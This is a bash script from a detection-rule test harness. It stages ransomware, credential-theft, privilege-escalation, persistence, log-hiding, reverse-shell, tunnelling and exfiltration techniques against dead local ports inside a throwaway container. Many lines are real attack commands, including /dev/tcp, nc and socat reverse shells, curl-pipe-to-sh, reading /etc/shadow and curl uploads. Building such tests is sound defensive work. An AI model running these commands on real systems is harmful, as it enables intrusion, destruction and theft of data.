#!/usr/bin/env bash
# What intruders do, harmlessly, so that rules prove themselves on what the sensor really sends and not on events made by
# hand alone: names and arguments are real, far ends are dead ports of this machine, programs are copies of `true` or of a
# shell under another name. Not among the ordinary activities; `record.sh ... attacks` asks for it.
. "$(dirname "$0")/common.sh"

if ! tr '\0' '\n' </proc/1/environ | grep -qx container=beffroi-test; then
    echo "attacks.sh runs on the throwaway machine only" >&2
    exit 2
fi
install openssl python3 gdb busybox-static curl openssh-client openssh-server borgbackup zip perl gawk >/dev/null
useradd --create-home alice 2>/dev/null
mkdir -p /srv/share /srv/borg /opt/{web,jvm,db,app/webapps} /run/sshd /var/backups /etc/udev/rules.d /etc/rsyslog.d /lib/modules/6.1
mkdir -p /home/alice/.mozilla/firefox/x.default /home/alice/.config/autostart /tmp/repo/.git/hooks /tmp/empty
for name in web/nginx jvm/java db/postgres; do cp /bin/bash "/opt/$name"; done
# An address that is nobody's (RFC 5737) is made one of this machine's own: what goes "outside" never leaves it.
ip address add 203.0.113.5/32 dev lo
for i in $(seq 60); do echo x | tee "/srv/share/$i.docx" >"/srv/share/k$i.pdf"; done

# An attack fails or is refused here as often as elsewhere; what counts is that it was tried.
try() {
    local from=$EPOCHREALTIME
    timeout 20 bash -c "$1" >/dev/null 2>&1 </dev/null || true
    say_did "$from" "${1//$'\n'/ }"
}
# A program of this name that does nothing.
as() { try "cp /bin/true '$1' && '$1' $2; rm -f '$1'"; }

# Ransomware
try 'rm -rf /var/backups'
try 'systemctl stop mariadb postgresql dovecot'
try 'for s in mysqld postgres mongod dovecot redis; do systemctl stop $s; done'
as /usr/local/bin/virsh 'list; for v in a b; do virsh destroy $v; done'
try 'for f in /srv/share/k*.pdf; do openssl enc -aes-256-cbc -in $f -out $f.enc -pass pass:x -pbkdf2; done'
try 'python3 -c "import os
for i in range(1, 61): os.rename(f\"/srv/share/{i}.docx\", f\"/srv/share/{i}.docx.f00b4r\")
open(\"/srv/share/a.akira\", \"w\")"'
try 'python3 -c "import os
for i in range(250): open(f\"/srv/share/d{i}.odt\", \"w\").close()
for i in range(250): os.unlink(f\"/srv/share/d{i}.odt\")"'
try 'echo pay > /srv/share/HOW_TO_RESTORE_FILES.txt'
try 'dd if=/dev/zero of=/dev/sdz count=1'
# Secrets
try 'cat /etc/shadow'
try 'gcore -o /tmp/.c 99999 ssh-agent'
try 'grep -c x /proc/self/mem'
try 'cp /home/alice/.mozilla/firefox/x.default/logins.json /tmp/l'
try 'cp /tmp/krb5cc_1000 /tmp/.k'
try 'find / -xdev -name id_rsa'
try 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'
try 'curl -m 1 --proxy http://127.0.0.1:9 http://169.254.169.254/latest/meta-data/iam/security-credentials/'
as /tmp/pspy64
# Root
try 'runuser -u www-data -- sudo -l'
try 'sudo -u#-1 id; sudo -R woot id'
try '(exec -a "" /usr/bin/passwd)'
try 'cp /bin/bash /tmp/bash; chmod u+s /tmp/bash; rm /tmp/bash'
try 'find / -xdev -perm -4000'
try 'useradd -o -u 0 toor; userdel -f toor'
try 'usermod -aG sudo alice'
try 'echo "alice ALL=(ALL) ALL" > /etc/sudoers.d/90-x'
try 'curl -s --unix-socket /var/run/docker.sock http://x/containers/json'
as /usr/local/bin/docker 'run --rm -v /:/host alpine'
# As a container runtime names its control groups.
try "systemd-run --quiet --wait --slice=system --unit=docker-$(seq -s '' 0 9 | sha256sum | cut -c1-64) mount /dev/sdz1 /mnt"
try 'mkdir -p /tmp/cg; echo /tmp/x > /tmp/cg/release_agent'
# Staying
try 'mkdir -p /etc/systemd/system-generators; cp /bin/true /etc/systemd/system-generators/net; rm /etc/systemd/system-generators/net'
try 'echo x > /etc/systemd/system/kworker.service; rm /etc/systemd/system/kworker.service'
try 'echo "#" > /etc/udev/rules.d/75-net.rules'
try 'echo "//" > /etc/apt/apt.conf.d/99update'
try 'echo x > /home/alice/.config/autostart/u.desktop'
try 'echo x > /tmp/repo/.git/hooks/post-checkout'
try 'echo x > /lib/modules/6.1/nfq.ko; echo "#" > /etc/modules-load.d/nfq.conf'
try 'sed -i s/x/x/ /etc/ssh/sshd_config'
try 'touch /etc/ld.so.preload; rm /etc/ld.so.preload'
try 'echo "#" >> /etc/pam.d/other; sed -i s/x/x/ /etc/pam.d/other'
try 'echo : > /etc/profile.d/u.sh'
try 'echo "# 0 3 * * * true" > /tmp/c; crontab /tmp/c; crontab -r'
try 'mkdir -p ~/.ssh; echo key > ~/.ssh/authorized_keys2'
# Hiding
try 'echo "#" > /etc/rsyslog.d/00-x.conf'
try 'touch /var/log/auth.log /var/log/wtmp; rm /var/log/auth.log; : > /var/log/wtmp'
try 'history -c; rm -f ~/.bash_history'
try 'touch -r /bin/ls /etc/hosts'
try 'chattr +i /etc/hosts; chattr -i /etc/hosts'
try 'python3 -c "import os, subprocess
fd = os.memfd_create(\"x\", 0); os.write(fd, open(\"/bin/true\", \"rb\").read())
subprocess.run([f\"/proc/self/fd/{fd}\"], pass_fds=[fd])"'
try 'cp /bin/busybox /tmp/busybox; /tmp/busybox unlink /tmp/busybox'
try 'env LD_PRELOAD=/tmp/x.so true'
try '(exec -a "[kworker/0:1]" sleep 0.1)'
try 'sleep 9 & mount --bind /tmp/empty /proc/$!; umount /proc/$!; kill $!'
as /dev/shm/k
as /usr/local/sbin/insmod /tmp/nfq.ko
as /usr/local/sbin/bpftool 'prog load /tmp/x.o /sys/fs/bpf/x'
as /usr/local/sbin/iptables -F
try 'mkdir -p /tmp/.x; cp /bin/true /tmp/.x/a; /tmp/.x/a'
try 'systemctl stop rsyslog'
# Servers taken over
try '/opt/web/nginx -c "sh -c id; true"'
try '/opt/jvm/java -c "sh -c id; true"'
try '/opt/jvm/java -c "curl -m 1 http://127.0.0.1:9/x; true"'
try '/opt/jvm/java -c "echo x > /tmp/k.sh; echo x > /opt/app/webapps/a.jsp; true"'
try '/opt/db/postgres -c "sh -c id; true"'
try 'echo "# sync" > /etc/cron.d/sync'
# Shells and tunnels
try 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'
try 'python3 -c "import socket, os, pty
s = socket.socket(); s.connect((\"127.0.0.1\", 9)); os.dup2(s.fileno(), 0); pty.spawn(\"sh\")"'
try 'perl -e "use Socket; socket(S, PF_INET, SOCK_STREAM, 6); connect(S, sockaddr_in(9, inet_aton(\"127.0.0.1\"))) and exec(\"sh\")"'
try 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 9 > /tmp/f'
as /usr/local/bin/nc '-lvnp 9001'
as /usr/local/bin/nc '-e /bin/sh 127.0.0.1 9'
as /usr/local/bin/socat 'tcp:127.0.0.1:9 exec:/bin/sh'
try 'exec 3<>/dev/tcp/203.0.113.5/9'
try 'cp /bin/busybox /tmp/update; (exec -a nc /tmp/update -w 1 203.0.113.5 9); rm /tmp/update'
try 'curl -m 1 http://203.0.113.5:4444/'
try '/opt/jvm/java -c "exec 3<>/dev/tcp/203.0.113.5/1389"'
try 'openssl s_client -quiet -connect 127.0.0.1:9 | /bin/sh'
try 'echo aWQ= | base64 -d | sh'
try 'curl -m 1 -s http://127.0.0.1:9/x | sh'
as /tmp/chisel 'client http://127.0.0.1:9 R:socks'
try 'ssh -o ConnectTimeout=1 -o BatchMode=yes -N -R 2222:localhost:22 -p 9 a@127.0.0.1'
as /usr/local/bin/xmrig '-o stratum+tcp://127.0.0.1:9'
# Data goes
try 'tar czf /tmp/.h.tgz /home'
as /usr/local/bin/rclone 'copy /srv/share m:b --transfers 16'
try 'curl -m 1 -T /etc/hostname http://203.0.113.5:9/'
try 'curl -m 1 -T /etc/hostname --resolve transfer.sh:443:127.0.0.1 https://transfer.sh/x'
# Looking around
try 'id; whoami; uname; hostname; ps; ss; ip a; lsblk; w; mount; lsof; uptime'
as /usr/local/bin/nmap '-sT 10.0.2.0/24'
try 'python3 -c "import socket
for port in range(2000, 2150): socket.socket().connect_ex((\"10.0.2.100\", port))"'
try 'python3 -c "import socket
for host in range(1, 60):
    s = socket.socket(); s.setblocking(False); s.connect_ex((\"10.9.8.%d\" % host, 22))"'
# Fetched and run; a password guessed
try 'python3 -m http.server --bind 127.0.0.1 8055 --directory /bin & for turn in $(seq 50); do curl -sf -o /tmp/.u http://127.0.0.1:8055/true && break; sleep 0.1; done; chmod +x /tmp/.u; /tmp/.u; kill %1'
try '/usr/sbin/sshd -p 2222 -o ListenAddress=127.0.0.1'
for i in $(seq 24); do try 'ssh -p 2222 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes nobody@127.0.0.1 id'; done
as_user 'mkdir -p -m 700 .ssh; ssh-keygen -q -t ed25519 -N "" -f .ssh/id_ed25519; cp .ssh/id_ed25519.pub .ssh/authorized_keys
    ssh -p 2222 -o StrictHostKeyChecking=no -o BatchMode=yes alice@127.0.0.1 id'
true
